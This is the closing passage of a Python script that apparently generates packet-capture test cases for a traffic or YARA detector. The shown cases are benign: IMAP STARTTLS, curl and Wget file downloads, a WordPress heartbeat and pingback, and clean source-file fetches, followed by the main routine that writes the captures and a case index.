          (b"STARTTLS\r\n", b"220 2.0.0 Ready to start TLS\r\n"), (tls_bytes, b"")])
    conv(cap, STAFF, MAILSRV, 42003, 143,
         [(b"", b"* OK IMAP4rev1 server ready\r\n"), (b"a001 CAPABILITY\r\n", b"* CAPABILITY IMAP4rev1 STARTTLS "
                                                      b"LOGINDISABLED\r\na001 OK\r\n"),
          (b"a002 STARTTLS\r\n", b"a002 OK Begin TLS\r\n"), (tls_bytes, b"")])


@case("benign-tools", "", "curl, Wget and python-requests fetching files, a CRL fetch by Microsoft-CryptoAPI, a WordPress heartbeat and pingback")
def benign_tools(cap):
    pingback = (b"<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params>"
                b"<param><value><string>http://blog.example/bai-viet</string></value></param>"
                b"<param><value><string>http://congthongtin.tinh.example/tin-tuc/1</string></value></param>"
                b"</params></methodCall>")
    reqs = [G("/files/bao-cao-2024.pdf", ua=UA_CURL), G("/files/bieu-mau.docx", ua="Wget/1.21.4"),
            G("/api/v1/thong-bao?loai=khan", ua="python-requests/2.31.0"),
            G("/crl/ca.crl", ua="Microsoft-CryptoAPI/10.0"),
            P("/wp-admin/admin-ajax.php", "action=heartbeat&screen_id=front&has_focus=false"),
            P("/xmlrpc.php", pingback, ctype="text/xml")]
    for i, r in enumerate(reqs):
        conv(cap, STAFF, PORTAL, 42000 + i, 80, [(r, resp())])


@case("benign-source-files", "", "ordinary PHP, JSP and ASPX sources (CLEAN_SOURCES) fetched from a code server")
def benign_sources(cap):
    downloads(cap, CLEAN_SOURCES, STAFF, PORTAL, HOST)


def main():
    if len(sys.argv) != 2:
        sys.stderr.write("usage: mkpcap-canh.py OUTDIR\n")
        return 2
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    names = set()
    with open(os.path.join(out, "cases.tsv"), "w", encoding="utf-8") as tsv:
        for name, expect, doc, build in CASES:
            assert name not in names, name
            names.add(name)
            cap = mr.Capture()
            build(cap)
            cap.write(os.path.join(out, name + ".pcap"))
            tsv.write("%s\t%s\t%s\t%s\n" % (name, expect or "-", YARA_EXPECT.get(name, "-"),
                                              doc.replace("\t", " ").replace("\n", " ")))
    missing = set(YARA_EXPECT) - names
    assert not missing, missing
    return 0


if __name__ == "__main__":
    sys.exit(main())
